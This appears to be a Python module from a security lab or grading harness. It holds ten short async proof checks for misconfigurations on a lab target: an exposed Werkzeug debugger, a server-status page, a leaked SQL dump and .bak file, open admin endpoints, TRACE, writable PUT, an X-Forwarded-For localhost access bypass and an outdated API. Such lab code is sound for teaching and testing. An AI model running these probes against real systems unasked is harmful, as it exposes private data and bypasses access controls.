"""Exploits of what was left on."""

from lab.client import Lab


async def _debugger(lab: Lab) -> bool:
    path = "/?__debugger__=yes&cmd=resource&f=debugger.js"
    return "EVALEX = true" in (await lab.send("GET", path)).text


async def _status(lab: Lab) -> bool:
    return "8 idle workers" in (await lab.get("/server-status")).text


async def _dump(lab: Lab) -> bool:
    return "INSERT INTO" in (await lab.get("/dump.sql")).text


async def _copy(lab: Lab) -> bool:
    return (await lab.get("/prices.php.bak")).text.startswith("<?php")


async def _jobs(lab: Lab) -> bool:
    return "send the bills" in (await lab.get("/manage/jobs")).text


async def _rebuild(lab: Lab) -> bool:
    return "built anew" in (await lab.get("/office/rebuild-data")).text


async def _trace(lab: Lab) -> bool:
    return "X-Mine: 1" in (await lab.send("TRACE", "/", headers={"X-Mine": "1"})).text


async def _put(lab: Lab) -> bool:
    await lab.send("PUT", "/dropbox/mine.txt", data=b"mine")
    return (await lab.get("/dropbox/mine.txt")).text == "mine"


async def _header(lab: Lab) -> bool:
    return "salary" in (await lab.send("GET", "/api/payroll", headers={"X-Forwarded-For": "127.0.0.1"})).text


async def _old(lab: Lab) -> bool:
    return "Oak Ltd" in (await lab.get("/api/v5/contracts")).text


PROOFS = {
    "debugger": _debugger,
    "status-page": _status,
    "file-dump": _dump,
    "file-copy": _copy,
    "open-administration": _jobs,
    "open-maintenance": _rebuild,
    "trace": _trace,
    "put-file": _put,
    "access-bypass": _header,
    "old-version": _old,
}
